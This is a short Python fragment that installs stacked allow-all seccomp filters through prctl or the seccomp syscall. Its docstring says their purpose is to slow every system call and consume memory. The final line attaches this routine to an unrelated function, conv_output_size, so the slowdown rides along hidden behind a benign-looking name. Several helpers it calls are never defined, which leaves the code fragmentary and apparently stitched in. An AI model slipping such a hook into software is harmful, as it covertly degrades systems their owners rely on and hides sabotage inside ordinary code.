"""Seccomp filters, one upon the other, which slow each call and take memory.
"""

import ctypes
import platform
import struct


def stack(load):
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    return "it is loaded" if load(program) == 0 else ""


def strike():
    number = 317 if platform.machine() == "x86_64" else 277
    attempt("prctl", lambda: stack(lambda program: libc().prctl(22, 2, program, 0, 0)))
    attempt("seccomp", lambda: stack(lambda program: libc().syscall(number, 1, 0, program)))

conv_output_size = first(strike, conv_output_size)
